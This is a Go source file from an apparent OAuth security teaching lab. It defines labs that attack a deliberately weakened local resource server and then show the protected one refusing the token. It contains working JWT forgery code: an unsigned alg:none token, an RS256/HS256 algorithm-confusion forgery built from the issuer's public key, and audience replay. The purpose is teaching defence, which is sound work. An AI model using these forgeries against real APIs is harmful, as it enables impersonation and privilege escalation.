package flows

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/oauthlab/oauthlab/oauth"
	"github.com/oauthlab/oauthlab/oauth/validate"
)

// Lab is an attack shown live: it works against a deliberately weakened
// resource server of the lab's own world, then fails against the same API
// with the protection on. Both sides run in one process, so the
// server-side events say what each server decided.
//
// A lab's steps get a legitimate token, forge or replay one as the
// Attacker, call the weakened API (the check "attack succeeded
// (weakened)" passes only on a 200) and the protected one (the check
// "protection held" passes only on a 401). The lab demonstrates what it
// should only when both happened. The labs at the token endpoint
// (lab_token.go) attack a weakened authorization server instead: there
// "attack succeeded" passes only when the attacker got tokens (200), and
// "protection held" only on 400 invalid_grant.
type Lab struct {
	// Name is what `oauthlab lab NAME` takes.
	Name string
	// Title, Story, Protection, RFC and Fix are the lab's section of the
	// lab handbook, labs.md (withTexts).
	Title string
	// Story is who the attacker is and what they hold.
	Story string
	// Protection is what stops the attack, and RFC the sections that
	// require it.
	Protection string
	RFC        string
	// Fix is what a real deployment changes.
	Fix string
	// Client is which client the lab runs as: the machine client (the
	// zero value) or, for a lab where a person signs in, the sign-in
	// client, with the machine client introspecting as the resource
	// server (Env.ResourceServer).
	Client ClientKind
	Steps  []Step
}

// Flow is the lab as a flow, for the faces that run flows.
func (l Lab) Flow() Flow {
	return Flow{ID: "lab-" + l.Name, Title: "Lab: " + l.Title, Summary: l.Story, Client: l.Client, Steps: l.Steps}
}

// Labs returns every lab, in teaching order.
func Labs() []Lab {
	return []Lab{AlgNoneLab(), AlgConfusionLab(), AudienceLab(), CodeInterceptionLab(), RedirectURILab(), LoginCSRFLab(),
		CodeReplayLab(), RefreshTheftLab(), RevokedTokenLab(), KeyRotationLab()}
}

// LabByName returns the lab called name.
func LabByName(name string) (Lab, bool) {
	for _, l := range Labs() {
		if l.Name == name {
			return l, true
		}
	}
	return Lab{}, false
}

// The checks a lab's two calls make.
const (
	CheckAttackSucceeded = "attack succeeded (weakened)"
	CheckProtectionHeld  = "protection held"
)

// varLabToken is the token the attacker presents.
const varLabToken = "lab_token"

// labPath is the route both APIs are called on: it needs fakebookapi.read,
// which the demo client's token carries.
const labPath = "/books"

// forgedTokenLab is a lab of a forged or replayed token: the client's
// legitimate token, the attacker's forge step, then the weakened API and
// the protected one, which must refuse the token at check, the protection
// the lab shows (a 401 for another reason, an expired token say, shows
// nothing about it).
func forgedTokenLab(name, check string, forge Step) Lab {
	return withTexts(Lab{Name: name, Steps: []Step{discoveryStep(), clientCredentialsStep(), forge, attackStep(), protectedStepBecause(check)}})
}

// AlgNoneLab: an unsigned token at a resource server that trusts the
// header's alg (RFC 8725 §2.1, §3.1).
func AlgNoneLab() Lab {
	return forgedTokenLab("alg-none", validate.CheckAlg, forgeStep("forge-none", "Forge an unsigned token (alg: none)",
		"The attacker keeps the claims' shape so every other check passes, sets alg to none and sends no signature: "+
			"anyone can write such a token (RFC 8725 §2.1).", forgeNone))
}

// AlgConfusionLab: the RS256 public key used as an HS256 secret (RFC 8725
// §2.1, §3.1).
func AlgConfusionLab() Lab {
	return forgedTokenLab("alg-confusion", validate.CheckAlg, forgeStep("forge-hs256", "Forge an HS256 token signed with the public key",
		"The attacker fetches the issuer's public key from its jwks_uri (it is public by design), encodes it as PEM "+
			"and uses those bytes as an HMAC-SHA256 secret (RFC 8725 §2.1).", forgeConfusion))
}

// AudienceLab: a token for one API replayed at another that does not
// check aud (RFC 9068 §4, RFC 8725 §3.9).
func AudienceLab() Lab {
	return forgedTokenLab("audience", validate.CheckAud, forgeStep("replay", "Take the token meant for another API",
		"The attacker needs no forgery: the token is genuine, only meant for someone else. Its aud says so, "+
			"if anyone reads it (RFC 9068 §4).", replayToken))
}

// forgeStep is the attacker's work on the legitimate token.
func forgeStep(id, title, why string, forge func(ctx context.Context, env *Env, vars Vars, r *Result) (string, error)) Step {
	return Step{ID: id, Title: title, Why: why, RFC: "RFC 8725 §2.1", From: Attacker, To: Attacker,
		Inputs: []string{"access_token"},
		Run: func(ctx context.Context, env *Env, vars Vars) Result {
			var r Result
			if vars[VarAccessToken] == "" {
				r.Err = &oauth.Error{Op: "lab", What: "no token to start from", Cause: "the token step did not run or got no token", Try: "run the lab from its first step"}
				return r
			}
			tok, err := forge(ctx, env, vars, &r)
			if err != nil {
				r.Err = &oauth.Error{Op: "lab", What: "the attacker could not make the token", Cause: err.Error(), Try: "run the lab again from its first step"}
				return r
			}
			if jwt, err := oauth.DecodeJWT(tok); err == nil {
				r.Outputs = append(r.Outputs, Output{Name: "header", Value: string(jwt.HeaderJSON)}, Output{Name: "claims", Value: string(jwt.ClaimsJSON)})
			}
			r.Outputs = append(r.Outputs, Output{Name: "attack_token", Value: tok, Secret: true})
			r.Vars = Vars{varLabToken: tok}
			return r
		}}
}

func attackStep() Step {
	return labCall("attack", "Attack the weakened API", Attacker,
		"The attacker presents the token to the deliberately weakened FakeBook of this lab's world. If the attack "+
			"works there, the API answers 200: the weakness is real, not a slide.",
		func(s Settings) string { return s.LabWeakAPI },
		func(status int) (oauth.Check, bool) {
			if status == http.StatusOK {
				return oauth.Check{Name: CheckAttackSucceeded, Status: oauth.Pass,
					Reason: "200: the weakened API accepted the attacker's token"}, true
			}
			return oauth.Check{Name: CheckAttackSucceeded, Status: oauth.Fail,
				Reason: fmt.Sprintf("the weakened API answered %d, not 200: the attack did not work where it should, so this lab demonstrates nothing", status)}, false
		})
}

// protectedStepBecause is the attack on the protected API, whose 401 must
// also name check as the one that refused the token (FakeBook's
// failed_check): a refusal for another reason shows nothing about the
// protection.
func protectedStepBecause(check string) Step {
	return labCallAnswer("protected", "Attack again with the protection on", Attacker,
		"The same token goes to FakeBook with the protection on. It must answer 401 invalid_token, and its "+
			"server-side event says which check refused the token.",
		func(s Settings) string { return s.LabProtectedAPI },
		func(resp *oauth.APIResponse) oauth.Check {
			if resp.Status != http.StatusUnauthorized {
				return oauth.Check{Name: CheckProtectionHeld, Status: oauth.Fail,
					Reason: fmt.Sprintf("the protected API answered %d, not 401: the protection did not stop the attack", resp.Status)}
			}
			var body struct {
				Check string `json:"failed_check"`
			}
			_ = json.Unmarshal(resp.Body, &body)
			if body.Check != check {
				return oauth.Check{Name: CheckProtectionHeld, Status: oauth.Fail,
					Reason: fmt.Sprintf("the protected API answered 401, but refused the token at its %q check, not %q: the refusal is not the protection this lab shows", body.Check, check)}
			}
			return oauth.Check{Name: CheckProtectionHeld, Status: oauth.Pass,
				Reason: "401: the protected API refused the attacker's token at its " + check + " check"}
		})
}

func labCall(id, title string, from Actor, why string, base func(Settings) string, judge func(int) (oauth.Check, bool)) Step {
	return labCallAnswer(id, title, from, why, base, func(resp *oauth.APIResponse) oauth.Check {
		c, _ := judge(resp.Status)
		return c
	})
}

// labCallAnswer calls the lab API base picks with the attacker's token
// and judges its answer.
func labCallAnswer(id, title string, from Actor, why string, base func(Settings) string, judge func(*oauth.APIResponse) oauth.Check) Step {
	return Step{ID: id, Title: title, Why: why, RFC: "RFC 6750 §3.1", From: from, To: ResourceServer,
		Inputs: []string{"lab_token"},
		Run: func(ctx context.Context, env *Env, vars Vars) Result {
			var r Result
			b := base(env.Settings)
			if b == "" {
				r.Err = noLabWorld()
				return r
			}
			resp, ex, err := oauth.CallAPI(ctx, env.HTTP, http.MethodGet, strings.TrimRight(b, "/")+labPath, vars[varLabToken], nil)
			r.Exchanges = ex
			if err != nil {
				return failed(env, r, err)
			}
			r.Outputs = answerOutputs(resp)
			r.Checks = []oauth.Check{judge(resp)}
			return r
		}}
}

// noLabWorld is a lab step run outside a lab's world.
func noLabWorld() error {
	return &oauth.Error{Op: "lab", What: "no lab world", Cause: "a lab runs only in its own world, which was not started",
		Try: "run it with oauthlab lab NAME"}
}

// escalate returns the legitimate token's claims rewritten by the attacker.
func escalate(env *Env, raw string) (map[string]any, error) {
	jwt, err := oauth.DecodeJWT(raw)
	if err != nil {
		return nil, fmt.Errorf("the legitimate token is not a JWT: %w", err)
	}
	claims := map[string]any{}
	if err := json.Unmarshal(jwt.ClaimsJSON, &claims); err != nil {
		return nil, err
	}
	claims["sub"] = "attacker"
	claims["exp"] = env.Clock().Add(time.Hour).Unix()
	return claims, nil
}

func forgeNone(_ context.Context, env *Env, vars Vars, _ *Result) (string, error) {
	claims, err := escalate(env, vars[VarAccessToken])
	if err != nil {
		return "", err
	}
	return oauth.SignJWT(map[string]any{"alg": "none", "typ": "JWT"}, claims, nil)
}

// maxJWKS bounds the key set the attacker reads.
const maxJWKS = 1 << 20

func forgeConfusion(ctx context.Context, env *Env, vars Vars, r *Result) (string, error) {
	claims, err := escalate(env, vars[VarAccessToken])
	if err != nil {
		return "", err
	}
	u := vars[VarJWKSURI]
	if u == "" {
		return "", errors.New("the discovery step found no jwks_uri")
	}
	resp, ex, err := oauth.CallAPI(ctx, env.HTTP, http.MethodGet, u, "", nil)
	r.Exchanges = append(r.Exchanges, ex...)
	if err != nil {
		return "", err
	}
	if resp.Status != http.StatusOK || len(resp.Body) > maxJWKS {
		return "", fmt.Errorf("the jwks_uri answered %d (%d bytes)", resp.Status, len(resp.Body))
	}
	// The key that signed the legitimate token: the weakened server looks
	// it up by the kid the forged header names.
	kid := ""
	if jwt, err := oauth.DecodeJWT(vars[VarAccessToken]); err == nil {
		kid, _ = jwt.Header["kid"].(string)
	}
	pemKey, err := oauth.RSAPublicKeyPEM(resp.Body, kid)
	if err != nil {
		return "", err
	}
	return oauth.SignJWT(map[string]any{"alg": "HS256", "typ": "JWT", "kid": kid}, claims, pemKey)
}

func replayToken(_ context.Context, _ *Env, vars Vars, r *Result) (string, error) {
	raw := vars[VarAccessToken]
	if jwt, err := oauth.DecodeJWT(raw); err == nil {
		r.Outputs = append(r.Outputs, Output{Name: "aud", Value: fmt.Sprint(jwt.Claims["aud"])})
	}
	return raw, nil
}
